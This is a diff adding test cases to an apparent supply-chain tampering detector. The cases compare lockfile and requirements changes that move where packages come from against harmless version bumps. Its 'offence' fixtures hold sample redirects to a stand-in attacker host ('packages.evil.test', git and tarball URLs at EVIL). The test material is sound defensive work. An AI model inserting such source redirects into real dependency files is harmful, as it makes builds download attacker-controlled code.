@@ -280,6 +280,24 @@ test.each<[string, before: string, offence: string, honest: string]>([
   ['Pipfile.lock', pipenv('home', '==1.0'), pipenv('other', '==1.0'), pipenv('home', '==1.1')],
   ['pubspec.lock', pubspec(HOME, '1.0.0'), pubspec(EVIL, '1.0.0'), pubspec(HOME, '1.1.0')],
   ['flake.lock', flake('o', '1'), flake('evil', '1'), flake('o', '2')],
+  [
+    'requirements-dev.txt',
+    'a==1.0\n',
+    '--index-url https://packages.evil.test/simple\na==1.0\n',
+    'a==1.1 \\\n  --hash=sha256:0\nb==1.0 # new\n',
+  ],
+  [
+    'requirements.txt',
+    `-i ${HOME}/simple\na @ git+${HOME}/o/a@1\n`,
+    `-i ${HOME}/simple\na @ git+${EVIL}/o/a@1\n`,
+    `-i ${HOME}/simple/\na @ git+${HOME}/o/a@1\nb\n`,
+  ],
+  [
+    'pnpm-lock.yaml',
+    '---\na: 1\n---\npackages: {}\n',
+    `---\na: 1\n---\npackages:\n  a@1.0.0: { resolution: { tarball: ${EVIL}/a.tgz } }\n`,
+    '---\na: 2\n---\npackages:\n  a@1.0.0: { resolution: { integrity: x } }\n',
+  ],
   ['bun.lock', bun('left-pad@1.2.0'), bun('left-pad@1.2.0', EVIL), bun('left-pad@1.3.0')],
   ['deno.lock', deno(HOME, '1.0.0'), deno(EVIL, '1.0.0'), deno(HOME, '1.1.0')],
 ])('%s: another place is told, another version is not (%#)', (path, before, offence, honest) => {
